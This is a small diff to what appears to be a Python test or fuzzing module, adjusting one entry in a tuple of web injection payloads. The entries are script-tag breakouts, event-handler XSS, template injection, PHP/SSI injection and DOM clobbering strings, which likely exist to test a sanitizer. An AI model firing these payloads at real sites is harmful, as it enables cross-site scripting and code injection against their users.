@@ -74,7 +74,7 @@ PAYLOADS = (
     "{{ 7*7 }}{% set document='PWNED' %}{# x #}",
     "${document.title='PWNED'}",
     f"<x contenteditable onblur={DO}>lose</x>",
-    f'{{"@type":"Thing"}}</script><script>{DO}</script>',
+    f'x {{"@type":"Thing"}}</script><script>{DO}</script>',
     f"\\u003cscript\\u003e{DO}\\u003c/script\\u003e",
     f"<!#exec cmd='x'><?php {DO} ?><script>{DO}</script>",
     "<h1 id=top name=getElementById>clobber",
